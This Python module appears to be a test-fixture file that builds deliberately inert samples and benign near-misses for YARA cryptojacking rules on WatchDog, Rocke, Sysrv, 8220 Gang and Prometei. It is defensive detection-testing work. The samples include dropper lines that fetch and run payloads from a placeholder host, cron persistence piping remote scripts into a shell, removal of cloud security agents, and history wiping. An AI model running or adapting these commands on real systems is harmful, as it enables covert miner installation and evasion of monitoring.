"""Inert samples and near-misses for signatures/rules/cryptojacking.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, a, elf, split, text


def watchdog() -> dict[str, bytes]:
    return {
        "watchdog-init-sh": text(
            "#!/bin/sh",
            f"exit 0  # {INERT_NOTE}",
            "chattr -i /etc/crontab /var/spool/cron/root",
            f"curl -fsSL http://{HOST}/sysupdate -o /etc/sysupdate",
            f"curl -fsSL http://{HOST}/config.json -o /etc/config.json",
            f"curl -fsSL http://{HOST}/sysguard -o /etc/sysguard",
            f"curl -fsSL http://{HOST}/networkservice -o /etc/networkservice",
            "chmod +x /etc/sysupdate /etc/sysguard /etc/networkservice",
            "echo '*/30 * * * * sh /etc/newinit.sh' >> /var/spool/cron/root",
        )
    }


def watchdog_near() -> dict[str, bytes]:
    # An admin's update script: fetches a config, touches cron, names one of the words.
    return {
        "system-update-sh": text(
            "#!/bin/sh",
            "apt-get update && apt-get -y upgrade  # sysupdate",
            f"curl -fsSL http://{HOST}/config.json -o /etc/app/config.json",
            "crontab -l > /root/cron.bak",
        )
    }


def pwnrig() -> dict[str, bytes]:
    return {
        "pwnrig-elf": elf(
            *a("PwnRig", "PwnRig/%s", "--donate-level", "randomx", "stratum+tcp://", "--cpu-max-threads-hint")
        )
    }


def pwnrig_near() -> dict[str, bytes]:
    # A CTF tool named pwnrig: the name once, no miner strings.
    return {"pwnrig-ctf-elf": elf(*a("PwnRig", "exploit rig for CTF practice", "randomx"))}


def gang8220_script() -> dict[str, bytes]:
    return {
        "i-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            "pkill -9 -f kinsing; pkill -9 -f kdevtmpfsi; pkill -9 -f xmrig",
            f"curl -fsSL http://{HOST}/pwnrig -o /tmp/.pwnrig",
            "chmod +x /tmp/.pwnrig && /tmp/.pwnrig &",
            f"(crontab -l; echo '* * * * * curl -fsSL http://{HOST}/i.sh | bash') | crontab -",
            "history -c",
        )
    }


def gang8220_script_near() -> dict[str, bytes]:
    return {
        "ctf-setup-sh": text(
            "#!/bin/bash",
            "# install the pwnrig CTF toolkit",
            "curl -fsSL https://example.org/toolkit.tar.gz -o /tmp/toolkit.tar.gz",
            "tar xzf /tmp/toolkit.tar.gz -C /opt",
        )
    }


def rocke() -> dict[str, bytes]:
    return {
        "rocke-a7-sh": text(
            "#!/bin/sh",
            f"exit 0  # {INERT_NOTE}",
            split("curl -sSL http://update.aegis.aliyun.com/download/", "uninstall.sh | sh"),
            split("curl -sSL http://update.aegis.aliyun.com/download/", "quartz_uninstall.sh | sh"),
            "pkill aliyun-service",
            split("/usr/local/qcloud/stargate/admin/", "uninstall.sh"),
            f"curl -fsSL http://{HOST}/kerberods -o /usr/sbin/kerberods",
        )
    }


def rocke_near() -> dict[str, bytes]:
    # An admin removing the Aliyun agent on purpose: the uninstall call, no miner.
    return {
        "remove-aegis-sh": text(
            "#!/bin/sh",
            "# decommission: remove the cloud monitoring agent",
            "curl -sSL http://update.aegis.aliyun.com/download/uninstall.sh | sh",
        )
    }


def rocke_cron() -> dict[str, bytes]:
    return {
        "cron-d-root": text(
            split("*/10 * * * * root (curl -fsSL https://pastebin.com/raw/", "inertAb1 || wget -q -O- ")
            + split("https://pastebin.com/raw/", "inertAb1)|sh")
        )
    }


def rocke_cron_near() -> dict[str, bytes]:
    return {
        "cron-d-notes": text("*/10 * * * * root curl -fsSL https://pastebin.com/raw/inertAb1 -o /var/tmp/notes.txt")
    }


def sysrv() -> dict[str, bytes]:
    return {
        "ldr-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            "pkill -f kthreaddi; pkill -f xmrig",
            f"cc=http://{HOST}",
            "sfile=sys.x86_64",
            "get $cc/$sfile /tmp/sysrv",
            "chmod +x /tmp/sysrv && /tmp/sysrv",
            split("mv /tmp/.miner /tmp/kthread", "dk"),
            f"crontab -l | grep -q ldr.sh || (crontab -l; echo '* * * * * curl -fsSL {HOST}/ldr.sh | sh') | crontab -",
        )
    }


def sysrv_near() -> dict[str, bytes]:
    # An admin clean-up script naming the miner process, fetching nothing.
    return {
        "cleanup-sh": text(
            "#!/bin/bash",
            "pkill -f kthreaddk",
            "rm -f /tmp/kthreaddk",
            "crontab -l | grep -v ldr.sh | crontab -",
        )
    }


def prometei() -> dict[str, bytes]:
    return {
        "uplugplay-elf": elf(
            *a(
                "/usr/sbin/uplugplay",
                "/etc/uplugplay",
                "uplugplay.service",
                "https://inerttestsample.onion/cgi-bin//prometei.cgi",
                "&i=%s&enckey=%s&answ=%s",
                "?&i=%s&answ=OK",
                "task.cron",
                "start_mining",
                "stop_mining",
                "updatecheckerd",
            )
        )
    }


def prometei_near() -> dict[str, bytes]:
    # A UPnP daemon with a cron helper: the word uplugplay in a service name, none of the bot's C2 strings.
    return {"upnp-elf": elf(*a("uplugplay.service", "task.cron", "/usr/sbin/miniupnpd", "start_mapping"))}


def prometei_service() -> dict[str, bytes]:
    return {
        "uplugplay-service": text(
            "[Unit]",
            "Description=UPlugPlay",
            "After=multi-user.target",
            "[Service]",
            "Type=forking",
            split("ExecStart=/usr/sbin/uplug", "play"),
            "[Install]",
            "WantedBy=multi-user.target",
        )
    }


def prometei_service_near() -> dict[str, bytes]:
    return {
        "miniupnpd-service": text(
            "[Unit]", "Description=UPnP IGD daemon", "[Service]", "ExecStart=/usr/sbin/miniupnpd -d", "[Install]"
        )
    }


def prometei_cron() -> dict[str, bytes]:
    return {"task-cron": text(split("@reboot /usr/sbin/uplug", "play -cron"))}


def prometei_cron_near() -> dict[str, bytes]:
    return {"crontab-upnp": text("@reboot /usr/sbin/miniupnpd -f /etc/miniupnpd/miniupnpd.conf")}


SAMPLES: Builders = {
    "WatchDog_Dropper_Script": watchdog,
    "Gang8220_PwnRig_Miner": pwnrig,
    "Gang8220_Dropper_Script": gang8220_script,
    "Rocke_Dropper_Script": rocke,
    "Rocke_Cron_Entry": rocke_cron,
    "Sysrv_Loader_Script": sysrv,
    "Prometei_Linux_Bot": prometei,
    "Prometei_Systemd_Service": prometei_service,
    "Prometei_Cron_Entry": prometei_cron,
}

NEARMISS: Builders = {
    "WatchDog_Dropper_Script": watchdog_near,
    "Gang8220_PwnRig_Miner": pwnrig_near,
    "Gang8220_Dropper_Script": gang8220_script_near,
    "Rocke_Dropper_Script": rocke_near,
    "Rocke_Cron_Entry": rocke_cron_near,
    "Sysrv_Loader_Script": sysrv_near,
    "Prometei_Linux_Bot": prometei_near,
    "Prometei_Systemd_Service": prometei_service_near,
    "Prometei_Cron_Entry": prometei_cron_near,
}
